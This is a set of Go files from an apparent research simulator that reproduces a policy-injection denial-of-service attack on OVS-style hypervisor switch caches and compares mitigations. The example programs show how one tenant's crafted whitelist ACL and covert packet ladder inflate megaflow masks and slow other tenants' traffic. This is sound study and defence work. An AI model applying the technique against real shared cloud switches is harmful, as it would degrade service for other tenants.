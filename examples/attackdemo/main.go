// attackdemo: the full Fig. 3 reproduction — victim iperf throughput and
// megaflow population over a 150-second timeline with the attack starting
// at t=60s. Run with -quick for a 30-second, 512-mask variant.
package main

import (
	"flag"
	"fmt"
	"log"
	"strings"

	"policyinject/internal/attack"
	"policyinject/internal/sim"
)

func main() {
	quick := flag.Bool("quick", false, "30s timeline with the 512-mask attack")
	flag.Parse()

	cfg := sim.Fig3Config{}
	if *quick {
		cfg = sim.Fig3Config{
			Duration: 30, AttackStart: 10,
			Attack: attack.TwoField(), FrameLen: 128,
		}
	}
	fmt.Println("reproducing paper Fig. 3 (this measures real lookup costs; allow a minute)...")
	res, err := sim.RunFig3(cfg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(res)
	fmt.Println()

	// ASCII rendition of the figure: throughput bars + mask counts.
	maxGbps := 0.0
	for _, v := range res.Throughput.V {
		if v > maxGbps {
			maxGbps = v
		}
	}
	step := res.Throughput.Len() / 30
	if step == 0 {
		step = 1
	}
	fmt.Println("  t[s]  victim throughput                         Gbps   masks")
	for i := 0; i < res.Throughput.Len(); i += step {
		bar := int(res.Throughput.V[i] / maxGbps * 40)
		fmt.Printf("  %4.0f  %-40s  %.3f  %6.0f\n",
			res.Throughput.T[i], strings.Repeat("#", bar), res.Throughput.V[i], res.Masks.V[i])
	}
	fmt.Printf("\npaper claim: low-bandwidth covert stream -> 80-90%% degradation / DoS; measured: %.0f%%\n",
		res.Degradation()*100)
}
