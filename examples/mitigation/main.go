// mitigation: compares dataplane variants under the same policy-injection
// attack — the trade-off discussion of the paper's demo, quantified:
// vanilla OVS model, kernel-datapath model (no EMC), sorted TSS, mask
// quotas (reject and LRU flavours), and the cache-less ESWITCH-style
// baseline.
package main

import (
	"fmt"
	"log"

	"policyinject/internal/attack"
	"policyinject/internal/mitigation"
)

func main() {
	fmt.Println("attack: ip_src + tp_dst whitelist, 512-mask covert stream")
	fmt.Println("victim: 90% established flows + 10% connection churn")
	fmt.Println()
	outcomes, err := mitigation.Evaluate(attack.TwoField(), []mitigation.Variant{
		mitigation.Vanilla(),
		mitigation.NoEMC(),
		mitigation.SMC(),
		mitigation.EMCPlusSMC(),
		mitigation.SortedTSS(),
		mitigation.StagedPruning(),
		mitigation.MaskCap(64),
		mitigation.MaskCapLRUSorted(64),
		mitigation.CacheLess(),
	}, 256)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(mitigation.Table(outcomes).String())
	fmt.Println(`
reading the table:
  vanilla      EMC absorbs the established flows; churn still pays the scan
  no-emc       the kernel-datapath model: every packet scans the masks
  smc          OVS 2.10 signature-match cache: huge fingerprint table the
               covert stream cannot thrash; warm flows skip the scan
  emc+smc      the full 2.10 hierarchy: EMC for the hottest, SMC underneath
  sorted-tss   post-paper OVS ranking: rescues warm flows; cold misses still pay
  staged-pruning OVS staged lookups + ports filter: every attacker mask stays
               resident, but nearly all are rejected without a hash probe
               (see avg_scan) — cold misses recover too
  mask-cap     bounds masks but displaces victims' megaflows into upcalls
  cap-lru-sort keeps hot victim masks resident AND early: strong recovery
  cache-less   immune by construction (paper ref [4]), no cache wins either`)
}
