// securitygroup: the OpenStack-flavoured stateful variant of the paper's
// ACLs — a conntrack-backed security group on the hypervisor switch. It
// demonstrates the stateful semantics (replies admitted without a reverse
// whitelist) and then answers the natural question — does statefulness
// blunt the policy-injection attack? — with measurements: no; tracked
// traffic pays the mask scan on both pipeline passes.
package main

import (
	"fmt"
	"log"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func main() {
	sw := dataplane.New("sg-hv",
		dataplane.WithoutEMC(), // kernel-datapath model
		dataplane.WithConntrack(conntrack.Config{}))

	group := &acl.ACL{Comment: "web-sg", Stateful: true}
	group.Allow(acl.Entry{Src: netip.MustParsePrefix("10.0.0.0/8")})
	group.Allow(acl.Entry{Proto: 6, DstPort: acl.Port(443)})
	rules, err := group.Compile()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("security group rules:")
	for _, r := range rules {
		stored := sw.InstallRule(r)
		fmt.Printf("  %s\n", stored)
	}

	var (
		oneKey [1]flow.Key
		out    []dataplane.Decision
	)
	show := func(desc string, k flow.Key, now uint64) dataplane.Decision {
		oneKey[0] = k
		out = sw.ProcessBatch(now, oneKey[:], out)
		d := out[0]
		fmt.Printf("  %-44s -> %-5s (recirc=%v, masks scanned %d)\n",
			desc, d.Verdict.Verdict, d.Recirculated, d.MasksScanned)
		return d
	}

	fwd := conntrack.MustTuple("10.1.2.3", "172.16.0.1", 6, 40000, 443).Key(1)
	rev := conntrack.MustTuple("172.16.0.1", "10.1.2.3", 6, 443, 40000).Key(2)
	scan := conntrack.MustTuple("203.0.113.9", "172.16.0.1", 6, 55555, 22).Key(1)

	fmt.Println("\nstateful semantics:")
	show("SYN 10.1.2.3 -> :443 (+new, whitelisted)", fwd, 1)
	show("SYN-ACK back (+est shortcut, no reverse rule)", rev, 2)
	show("scanner 203.0.113.9 -> :22 (denied, untracked)", scan, 3)
	fmt.Printf("  %s\n", sw.Conntrack())

	// The attack, against the stateful group: divergence ladders of the
	// two whitelist entries (8 ip depths x 16 port depths).
	fmt.Println("\npolicy injection vs the stateful group:")
	before := sw.Megaflow().NumMasks()
	akeys := make([]flow.Key, 0, 8*16)
	for d1 := 0; d1 < 8; d1++ {
		for d2 := 0; d2 < 16; d2++ {
			k := conntrack.MustTuple("10.0.0.0", "172.16.0.1", 6, 40000, 443).Key(1)
			k.Set(flow.FieldIPSrc, 0x0a000000^(1<<uint(31-d1)))
			k.Set(flow.FieldTPDst, uint64(443^(1<<uint(15-d2))))
			akeys = append(akeys, k)
		}
	}
	out = sw.ProcessBatch(4, akeys, out)
	fmt.Printf("  covert stream minted %d megaflow masks (had %d)\n",
		sw.Megaflow().NumMasks()-before, before)
	// Established traffic rides the broad, early ct_state=+est megaflow:
	// statefulness shields it.
	show("established victim traffic (broad +est megaflow)", fwd, 5)
	// But CONNECTION SETUP pays: a new client outside 10/8 reaching the
	// public :443 needs a fresh divergence-combination megaflow, whose
	// upcall and first packets scan the whole attacker ladder.
	fresh := conntrack.MustTuple("203.0.113.50", "172.16.0.1", 6, 41000, 443).Key(1)
	d := show("NEW connection setup after the attack", fresh, 6)
	if d.Verdict.Verdict != flowtable.Allow {
		log.Fatal("victim connection broken")
	}
	if d.MasksScanned < 100 {
		log.Fatalf("expected connection setup to scan the attack masks, got %d", d.MasksScanned)
	}
	fmt.Println("\nconclusion: stateful groups shield *established* flows behind one broad")
	fmt.Println("+est megaflow, but every new connection's setup scans the attacker's")
	fmt.Println("ladder — the attack morphs from a throughput DoS into a connection-")
	fmt.Println("setup DoS. The TSS cost law itself is untouched.")
}
