// k8spolicy: the multi-tenant cloud scenario of the paper's Fig. 1 — two
// tenants deploy pods through the CMS onto a shared two-server cluster,
// protect them with Kubernetes-style network policies, and exchange
// traffic across the fabric. It then shows what a *malicious* policy from
// one tenant does to the shared hypervisor switch.
package main

import (
	"fmt"
	"log"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/cms"
	"policyinject/internal/fabric"
	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

func main() {
	// Cluster: two servers, 10 Gbps fabric.
	cluster := cms.NewCluster()
	for _, n := range []string{"server-1", "server-2"} {
		if _, err := cluster.AddNode(n); err != nil {
			log.Fatal(err)
		}
	}
	web, _ := cluster.DeployPod("acme", "web", "server-1")
	db, _ := cluster.DeployPod("acme", "db", "server-1")
	probe, _ := cluster.DeployPod("mallory", "probe", "server-1")
	client, _ := cluster.DeployPod("acme", "client", "server-2")
	fmt.Print(cluster)

	fab := fabric.New()
	fab.AddHost("server-1", cluster.Node("server-1").Switch)
	fab.AddHost("server-2", cluster.Node("server-2").Switch)
	fab.Connect("server-1", "server-2", 10e9)
	for _, p := range cluster.Pods() {
		fab.Register(p.IP, p.Node.Name, p.Port)
	}

	// Microsegmentation: only the web pod may reach the db, only the
	// client subnet may reach web.
	must(cluster.ApplyPolicy("acme", "db", &cms.Policy{
		Name:    "db-ingress",
		Ingress: []acl.Entry{{Src: hostPrefix(web.IP), Proto: 6, DstPort: acl.Port(5432)}},
	}))
	must(cluster.ApplyPolicy("acme", "web", &cms.Policy{
		Name:    "web-ingress",
		Ingress: []acl.Entry{{Src: hostPrefix(client.IP), Proto: 6, DstPort: acl.Port(443)}},
	}))

	fab.Tick(1)
	show := func(desc string, src netip.Addr, frame []byte) {
		res, err := fab.Send(1, src, frame)
		if err != nil {
			log.Fatal(err)
		}
		verdict := "DENIED"
		if res.Delivered {
			verdict = "delivered"
		}
		fmt.Printf("  %-38s %s (at %s)\n", desc, verdict, res.Host)
	}
	fmt.Println("\npolicy enforcement across the fabric:")
	show("client -> web :443", client.IP, tcp(client.IP, web.IP, 443))
	show("client -> db  :5432 (not whitelisted)", client.IP, tcp(client.IP, db.IP, 5432))
	show("web    -> db  :5432", web.IP, tcp(web.IP, db.IP, 5432))
	show("probe  -> db  :5432 (other tenant)", probe.IP, tcp(probe.IP, db.IP, 5432))

	// Now the attacker tenant injects its (perfectly valid) policy and
	// feeds it covert packets.
	atk := attack.TwoField()
	atk.DstIP = probe.IP
	theACL, _ := atk.BuildACL()
	must(cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
		Name: "innocuous-whitelist", Ingress: theACL.Entries,
	}))
	sw := probe.Node.Switch
	keys, _ := atk.Keys()
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(probe.Port))
	}
	out := sw.ProcessBatch(2, keys, nil)
	fmt.Printf("\nafter mallory's covert stream, server-1 carries %d megaflow masks\n",
		sw.Megaflow().NumMasks())
	out = sw.ProcessBatch(3, []flow.Key{flow.FiveTuple{
		Src: client.IP, Dst: web.IP, Proto: 6, SrcPort: 40000, DstPort: 443,
	}.Key(web.Port)}, out)
	d := out[0]
	fmt.Printf("acme's next web packet scanned %d masks to be %s\n",
		d.MasksScanned, d.Verdict)
}

func hostPrefix(a netip.Addr) netip.Prefix { return netip.PrefixFrom(a, 32) }

func tcp(src, dst netip.Addr, port uint16) []byte {
	return pkt.MustBuild(pkt.Spec{
		Src: src, Dst: dst, Proto: pkt.ProtoTCP,
		SrcPort: 40000, DstPort: port, FrameLen: 128,
	})
}

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}
