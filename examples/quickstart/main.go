// Quickstart: build a hypervisor switch, install a whitelist ACL, push
// packets through the fast/slow path pipeline, and inspect the megaflow
// cache — the 60-second tour of the library.
package main

import (
	"fmt"
	"log"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/dataplane"
	"policyinject/internal/pkt"
)

func main() {
	// 1. A switch with the default (OVS-like) cache hierarchy: EMC in
	// front of the megaflow TSS. Options compose other hierarchies, e.g.
	// dataplane.New("br-int", dataplane.WithSMC(cache.SMCConfig{})).
	sw := dataplane.New("br-int")
	sw.AddPort(1, "vm1")

	// 2. A whitelist + default-deny ACL, exactly Fig. 2a of the paper.
	policy, err := acl.Parse(`
		# allow the corporate subnet, drop everything else
		allow src=10.0.0.0/8
		deny *
	`)
	if err != nil {
		log.Fatal(err)
	}
	rules, err := policy.Compile()
	if err != nil {
		log.Fatal(err)
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
	fmt.Print("installed ACL:\n", policy)

	// 3. Send a few packets: one allowed flow, one denied scanner.
	allowed := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.1.2.3"), Dst: netip.MustParseAddr("10.9.9.9"),
		Proto: pkt.ProtoTCP, SrcPort: 44123, DstPort: 443, FrameLen: 1514,
	})
	denied := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("203.0.113.66"), Dst: netip.MustParseAddr("10.9.9.9"),
		Proto: pkt.ProtoTCP, SrcPort: 55555, DstPort: 22,
	})
	for now := uint64(1); now <= 3; now++ {
		d1, _ := sw.Process(now, 1, allowed)
		d2, _ := sw.Process(now, 1, denied)
		fmt.Printf("t=%d  %-40s -> %s via %s\n", now, pkt.Summary(allowed), d1.Verdict, d1.Path)
		fmt.Printf("t=%d  %-40s -> %s via %s\n", now, pkt.Summary(denied), d2.Verdict, d2.Path)
	}

	// 4. What the fast path cached: note the megaflow masks — the data
	// structure the policy-injection attack explodes.
	fmt.Println()
	fmt.Print(sw)
	for _, e := range sw.Megaflow().Entries() {
		fmt.Printf("  megaflow %s -> %s (hits %d)\n", e.Match, e.Verdict, e.Hits)
	}
}
