// Quickstart: build a hypervisor switch, install a whitelist ACL, push
// packets through the fast/slow path pipeline, and inspect the megaflow
// cache — the 60-second tour of the library.
package main

import (
	"fmt"
	"log"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/dataplane"
	"policyinject/internal/pkt"
)

func main() {
	// 1. A switch with the default (OVS-like) cache hierarchy: EMC in
	// front of the megaflow TSS. Options compose other hierarchies, e.g.
	// dataplane.New("br-int", dataplane.WithSMC(cache.SMCConfig{})).
	sw := dataplane.New("br-int")
	sw.AddPort(1, "vm1")

	// 2. A whitelist + default-deny ACL, exactly Fig. 2a of the paper.
	policy, err := acl.Parse(`
		# allow the corporate subnet, drop everything else
		allow src=10.0.0.0/8
		deny *
	`)
	if err != nil {
		log.Fatal(err)
	}
	rules, err := policy.Compile()
	if err != nil {
		log.Fatal(err)
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
	fmt.Print("installed ACL:\n", policy)

	// 3. Send traffic the way a NIC delivers it: a burst of raw wire
	// frames through the frame-first ingress. One allowed flow, one denied
	// scanner, and one truncated junk frame — which gets its own error
	// slot and RxErrors accounting instead of aborting the burst.
	allowed := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.1.2.3"), Dst: netip.MustParseAddr("10.9.9.9"),
		Proto: pkt.ProtoTCP, SrcPort: 44123, DstPort: 443, FrameLen: 1514,
	})
	denied := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("203.0.113.66"), Dst: netip.MustParseAddr("10.9.9.9"),
		Proto: pkt.ProtoTCP, SrcPort: 55555, DstPort: 22,
	})
	junk := []byte{0xde, 0xad, 0xbe, 0xef}
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	for now := uint64(1); now <= 3; now++ {
		fb.Reset()
		fb.Append(allowed, 1)
		fb.Append(denied, 1)
		fb.Append(junk, 1)
		out = sw.ProcessFrames(now, &fb, out)
		for i, d := range out {
			if err := fb.Err(i); err != nil {
				fmt.Printf("t=%d  frame %d unparseable (%v) -> %s\n", now, i, err, d.Verdict)
				continue
			}
			fmt.Printf("t=%d  %-40s -> %s via %s\n", now, pkt.Summary(fb.Frames[i]), d.Verdict, d.Path)
		}
	}
	fmt.Printf("port 1: rx=%d tx=%d rx_errors=%d dropped=%d\n",
		sw.Port(1).RxPackets, sw.Port(1).TxPackets, sw.Port(1).RxErrors, sw.Port(1).RxDropped)

	// 4. What the fast path cached: note the megaflow masks — the data
	// structure the policy-injection attack explodes.
	fmt.Println()
	fmt.Print(sw)
	for _, e := range sw.Megaflow().Entries() {
		fmt.Printf("  megaflow %s -> %s (hits %d)\n", e.Match, e.Verdict, e.Hits)
	}
}
