// Package scenarios embeds the starter pack corpus so cmd/figures and
// the tests can run the declarative scenarios without depending on the
// working directory. cmd/scenario prefers the on-disk ./scenarios tree
// and falls back to this embedded copy.
package scenarios

import "embed"

// FS holds the embedded pack corpus.
//
//go:embed *.yaml
var FS embed.FS
