module policyinject

go 1.24
