// The zero-allocation contract of the frame hot path, asserted at
// runtime. The static side of the same contract is the hotpathalloc
// analyzer (internal/analysis); this test is the dynamic witness that
// the //lint:hotpath call graph really holds 0 allocs/op once the
// reusable scratch is warm.
package policyinject_test

import (
	"testing"

	"policyinject/internal/attack"
	"policyinject/internal/dataplane"
	"policyinject/internal/telemetry"
)

// TestFramePathZeroAlloc replays a warm burst through ProcessFrames and
// requires zero heap allocations per call, on both the benchmark
// workloads: the EMC-hit victim mix and the 8192-mask staged megaflow
// sweep. The telemetry legs re-run both with a live registry attached —
// instrument recording shares the contract, so scraping in production
// costs no hot-path garbage.
func TestFramePathZeroAlloc(t *testing.T) {
	cases := []struct {
		name  string
		build func() *dataplane.Switch
		burst int
	}{
		{
			name:  "victim-emc",
			build: func() *dataplane.Switch { return attackSwitch(t, attack.TwoField(), false) },
			burst: 256,
		},
		{
			name:  "attack8192-megaflow",
			build: func() *dataplane.Switch { return attackSwitch(t, attack.ThreeField(), true, noEMC) },
			burst: 32,
		},
		{
			name: "victim-emc-telemetry",
			build: func() *dataplane.Switch {
				return attackSwitch(t, attack.TwoField(), false,
					dataplane.WithTelemetry(telemetry.NewRegistry()))
			},
			burst: 256,
		},
		{
			name: "attack8192-megaflow-telemetry",
			build: func() *dataplane.Switch {
				return attackSwitch(t, attack.ThreeField(), true, noEMC,
					dataplane.WithTelemetry(telemetry.NewRegistry()))
			},
			burst: 32,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sw := tc.build()
			gen := victimGen()
			var fb dataplane.FrameBatch
			for i := 0; i < tc.burst; i++ {
				f, _ := gen.NextFrame()
				fb.Append(f, 1)
			}
			out := sw.ProcessFrames(1, &fb, nil) // warm caches and scratch
			avg := testing.AllocsPerRun(100, func() {
				out = sw.ProcessFrames(2, &fb, out)
			})
			if avg != 0 {
				t.Errorf("ProcessFrames allocates %.1f times per warm burst; the hot path must hold 0", avg)
			}
		})
	}
}
