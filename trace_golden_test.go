// Golden tests for the frame-trace explainer — the text dpctl trace
// prints. The three fixtures cover the three interesting fates of a
// frame: an EMC hit, an SMC hit, and a staged megaflow sweep that
// misses everything and upcalls. The explanations are produced by the
// real tier walk (TraceFrame promotes, installs and counts exactly as
// Process would), so these goldens pin datapath behavior, not just
// formatting: a change in scan costs, pruning counters or promotion
// order shows up here as a text diff.
package policyinject_test

import (
	"net/netip"
	"testing"

	"policyinject/internal/attack"
	"policyinject/internal/cache"
	"policyinject/internal/dataplane"
	"policyinject/internal/pkt"
)

// traceFrame is the fixture frame: a victim flow matching the port-1
// whitelist (10.10.0.0/24 -> anywhere), fixed 5-tuple so every run
// renders the same flow string.
func traceFrame(t *testing.T) []byte {
	t.Helper()
	f, err := pkt.Build(pkt.Spec{
		Src:      netip.MustParseAddr("10.10.0.5"),
		Dst:      netip.MustParseAddr("172.16.0.2"),
		Proto:    pkt.ProtoTCP,
		SrcPort:  40000,
		DstPort:  5201,
		FrameLen: 128,
	})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestTraceFrameGolden(t *testing.T) {
	cases := []struct {
		name string
		// build returns a switch already warmed so the trace lands where
		// the case name says.
		build func(t *testing.T) *dataplane.Switch
		want  string
	}{
		{
			name: "emc-hit",
			build: func(t *testing.T) *dataplane.Switch {
				sw := attackSwitch(t, attack.TwoField(), false)
				if _, err := sw.Process(1, 1, traceFrame(t)); err != nil {
					t.Fatal(err)
				}
				return sw
			},
			want: `trace: 128-byte frame on port 1 at t=2
  flow: eth_dst=02:00:00:00:00:02,eth_src=02:00:00:00:00:01,eth_type=2048,in_port=1,ip_dst=172.16.0.2,ip_proto=6,ip_src=10.10.0.5,tcp_flags=2,tp_dst=5201,tp_src=40000
  tier 0 emc: HIT (cost 0)
    matched in_port=1,eth_type=2048,ip_src=10.10.0.0/25,tp_dst=0x1000/4 -> allow
verdict: allow via emc, masks scanned 0
`,
		},
		{
			name: "smc-hit",
			build: func(t *testing.T) *dataplane.Switch {
				sw := attackSwitch(t, attack.TwoField(), false, noEMC, dataplane.WithSMC(cache.SMCConfig{}))
				if _, err := sw.Process(1, 1, traceFrame(t)); err != nil {
					t.Fatal(err)
				}
				return sw
			},
			want: `trace: 128-byte frame on port 1 at t=2
  flow: eth_dst=02:00:00:00:00:02,eth_src=02:00:00:00:00:01,eth_type=2048,in_port=1,ip_dst=172.16.0.2,ip_proto=6,ip_src=10.10.0.5,tcp_flags=2,tp_dst=5201,tp_src=40000
  tier 0 smc: HIT (cost 0)
    matched in_port=1,eth_type=2048,ip_src=10.10.0.0/25,tp_dst=0x1000/4 -> allow
verdict: allow via smc, masks scanned 0
`,
		},
		{
			name: "staged-miss-upcall",
			build: func(t *testing.T) *dataplane.Switch {
				return attackSwitch(t, attack.ThreeField(), true, noEMC, dataplane.WithStagedPruning())
			},
			want: `trace: 128-byte frame on port 1 at t=2
  flow: eth_dst=02:00:00:00:00:02,eth_src=02:00:00:00:00:01,eth_type=2048,in_port=1,ip_dst=172.16.0.2,ip_proto=6,ip_src=10.10.0.5,tcp_flags=2,tp_dst=5201,tp_src=40000
  tier 0 megaflow: MISS (cost 0)
    subtables: 7936 resident, 0 scanned, 0 probed, 7936 pruned, 0 stage-hash bails
  upcall: admitted to slow path
    rule: priority=100,in_port=1,eth_type=2048,ip_src=10.10.0.0/24 actions=allow
    megaflow: in_port=1,eth_type=2048,ip_src=10.10.0.0/25,tp_src=0x8000/1,tp_dst=0x1000/4
    install: ok (promoted to upper tiers)
verdict: allow via slowpath, masks scanned 0
`,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sw := tc.build(t)
			got := sw.TraceFrame(2, traceFrame(t), 1).String()
			if got != tc.want {
				t.Errorf("trace text drifted from golden.\ngot:\n%s\nwant:\n%s", got, tc.want)
			}
		})
	}
}
