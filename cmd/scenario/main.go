// Command scenario loads, validates and runs declarative scenario
// packs:
//
//	scenario list [packs...]             show the packs a path set resolves to
//	scenario validate [packs...]         load + bind every pack, report errors
//	scenario run [flags] [packs...]      execute packs and render reports
//
// Pack arguments are files, directories (immediate *.yaml/*.json), or
// "dir/..." trees. With no arguments the ./scenarios tree is used when
// present, the embedded starter corpus otherwise.
//
// Exit status: 0 on success, 1 when a pack's expectations fail, 2 on
// load or usage errors.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"policyinject/internal/scenario"
	"policyinject/internal/telemetry"
	"policyinject/scenarios"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]
	var err error
	switch cmd {
	case "list":
		err = cmdList(args)
	case "validate":
		err = cmdValidate(args)
	case "run":
		err = cmdRun(args)
	case "-h", "-help", "--help", "help":
		usage()
		return
	default:
		fmt.Fprintf(os.Stderr, "scenario: unknown command %q\n", cmd)
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "scenario: %v\n", err)
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprint(os.Stderr, `usage: scenario <command> [flags] [packs...]

commands:
  list       show the packs the arguments resolve to
  validate   load and bind every pack, reporting schema errors
  run        execute packs and render reports

run flags:
  -format human|json|csv   report format (default human)
  -o dir                   write one report file per pack into dir
  -tag name                only run packs carrying this tag
  -seed n                  override the pack seed
  -duration n              override the pack duration
  -measure wall|off        override the measurement mode
  -samples n               override measure.cost_samples / matrix.samples
  -telemetry addr          serve live telemetry on addr (/metrics,
                           /metrics.json, /debug/pprof/) while packs run
  -telemetry-hold dur      keep the telemetry listener up this long after
                           the last pack finishes (for scraping final state)

packs default to ./scenarios/... on disk, else the embedded corpus.
`)
}

// loaded is one successfully loaded pack plus its source file.
type loaded struct {
	file string
	pack *scenario.Pack
}

// collect resolves pack arguments into loaded packs. Load errors are
// returned all together so validate can report every broken file.
func collect(args []string) ([]loaded, []error) {
	if len(args) == 0 {
		if st, err := os.Stat("scenarios"); err == nil && st.IsDir() {
			args = []string{"scenarios/..."}
		} else {
			return collectEmbedded()
		}
	}
	files, err := scenario.Discover(args)
	if err != nil {
		return nil, []error{err}
	}
	if len(files) == 0 {
		return nil, []error{fmt.Errorf("no pack files found under %s", strings.Join(args, " "))}
	}
	var packs []loaded
	var errs []error
	for _, f := range files {
		p, err := scenario.Load(f)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		packs = append(packs, loaded{file: f, pack: p})
	}
	return packs, errs
}

// collectEmbedded loads the compiled-in starter corpus.
func collectEmbedded() ([]loaded, []error) {
	files, err := scenario.DiscoverFS(scenarios.FS)
	if err != nil {
		return nil, []error{err}
	}
	var packs []loaded
	var errs []error
	for _, f := range files {
		p, err := scenario.LoadFS(scenarios.FS, f)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		packs = append(packs, loaded{file: "embedded:" + f, pack: p})
	}
	return packs, errs
}

func cmdList(args []string) error {
	packs, errs := collect(args)
	if len(errs) > 0 {
		return errs[0]
	}
	w := new(strings.Builder)
	for _, l := range packs {
		p := l.pack
		variants := make([]string, 0, len(p.Variants))
		for _, v := range p.Variants {
			variants = append(variants, v.Variant)
		}
		fmt.Fprintf(w, "%-22s %-8s %-28s %s\n", p.Name, p.Mode, strings.Join(variants, ","), l.file)
		if p.Description != "" {
			fmt.Fprintf(w, "%22s %s\n", "", p.Description)
		}
		if len(p.Tags) > 0 {
			fmt.Fprintf(w, "%22s tags: %s\n", "", strings.Join(p.Tags, ", "))
		}
	}
	fmt.Print(w.String())
	return nil
}

func cmdValidate(args []string) error {
	packs, errs := collect(args)
	for _, l := range packs {
		fmt.Printf("ok\t%s\t%s (%d variant(s), %d expectation(s))\n",
			l.file, l.pack.Name, len(l.pack.Variants), len(l.pack.Expect))
	}
	if len(errs) > 0 {
		for _, err := range errs {
			fmt.Fprintf(os.Stderr, "invalid\t%v\n", err)
		}
		return fmt.Errorf("%d pack(s) failed validation", len(errs))
	}
	return nil
}

func cmdRun(args []string) error {
	fs := flag.NewFlagSet("run", flag.ExitOnError)
	format := fs.String("format", "human", "report format: human, json, csv")
	outDir := fs.String("o", "", "write one report file per pack into this directory")
	tag := fs.String("tag", "", "only run packs carrying this tag")
	seed := fs.Uint64("seed", 0, "override the pack seed (0: keep)")
	duration := fs.Int("duration", 0, "override the pack duration (0: keep)")
	measure := fs.String("measure", "", "override the measurement mode: wall or off")
	samples := fs.Int("samples", 0, "override cost/matrix samples (0: keep)")
	telemetryAddr := fs.String("telemetry", "", "serve live telemetry on this address while packs run (empty: off)")
	telemetryHold := fs.Duration("telemetry-hold", 0, "keep the telemetry listener up this long after the last pack")
	if err := fs.Parse(args); err != nil {
		return err
	}
	rep, err := scenario.NewReporter(*format)
	if err != nil {
		return err
	}
	packs, errs := collect(fs.Args())
	if len(errs) > 0 {
		return errs[0]
	}
	if *tag != "" {
		kept := packs[:0]
		for _, l := range packs {
			if l.pack.HasTag(*tag) {
				kept = append(kept, l)
			}
		}
		packs = kept
		if len(packs) == 0 {
			return fmt.Errorf("no packs carry tag %q", *tag)
		}
	}
	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			return err
		}
	}
	var reg *telemetry.Registry
	if *telemetryAddr != "" {
		reg = telemetry.NewRegistry()
		bound, closeFn, err := telemetry.Serve(*telemetryAddr, reg)
		if err != nil {
			return fmt.Errorf("telemetry listener: %w", err)
		}
		defer closeFn()
		fmt.Fprintf(os.Stderr, "scenario: telemetry on http://%s/metrics (json at /metrics.json, pprof at /debug/pprof/)\n", bound)
	}
	opt := scenario.RunOptions{
		Seed:        *seed,
		Duration:    *duration,
		Measure:     *measure,
		CostSamples: *samples,
		Telemetry:   reg,
	}

	sort.Slice(packs, func(i, j int) bool { return packs[i].pack.Name < packs[j].pack.Name })
	failed := 0
	for _, l := range packs {
		res, err := scenario.Run(l.pack, opt)
		if err != nil {
			return err
		}
		if !res.Passed() {
			failed++
		}
		if *outDir != "" {
			path, err := writeReport(rep, *outDir, l.pack.Name, *format, res)
			if err != nil {
				return err
			}
			status := "pass"
			if !res.Passed() {
				status = "FAIL"
			}
			fmt.Printf("%-4s %-22s -> %s\n", status, l.pack.Name, path)
		} else if err := rep.Report(os.Stdout, res); err != nil {
			return err
		}
	}
	if reg != nil && *telemetryHold > 0 {
		fmt.Fprintf(os.Stderr, "scenario: holding telemetry listener for %s\n", *telemetryHold)
		time.Sleep(*telemetryHold)
	}
	if failed > 0 {
		fmt.Fprintf(os.Stderr, "scenario: %d pack(s) failed their expectations\n", failed)
		os.Exit(1)
	}
	return nil
}

// writeReport renders one pack report under dir, creating any
// subdirectories a path-structured pack name asks for (a pack named
// "attacks/three-field" lands at dir/attacks/three-field.json), and
// returns the written path.
func writeReport(rep scenario.Reporter, dir, name, format string, res *scenario.Result) (string, error) {
	path := filepath.Join(dir, name+"."+reportExt(format))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return "", fmt.Errorf("write report %s: %w", path, err)
	}
	f, err := os.Create(path)
	if err != nil {
		return "", fmt.Errorf("write report %s: %w", path, err)
	}
	if err := rep.Report(f, res); err != nil {
		f.Close()
		return "", fmt.Errorf("write report %s: %w", path, err)
	}
	if err := f.Close(); err != nil {
		return "", fmt.Errorf("write report %s: %w", path, err)
	}
	return path, nil
}

func reportExt(format string) string {
	switch format {
	case "json":
		return "json"
	case "csv":
		return "csv"
	}
	return "txt"
}
