package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"policyinject/internal/scenario"
)

// TestWriteReportNestedPackName: a path-structured pack name like
// "attacks/three-field" must land in a subdirectory of the output dir,
// which writeReport creates on demand.
func TestWriteReportNestedPackName(t *testing.T) {
	rep, err := scenario.NewReporter("json")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	res := &scenario.Result{Pack: "attacks/three-field", Mode: "timeline"}

	path, err := writeReport(rep, dir, res.Pack, "json", res)
	if err != nil {
		t.Fatal(err)
	}
	want := filepath.Join(dir, "attacks", "three-field.json")
	if path != want {
		t.Fatalf("wrote %s, want %s", path, want)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
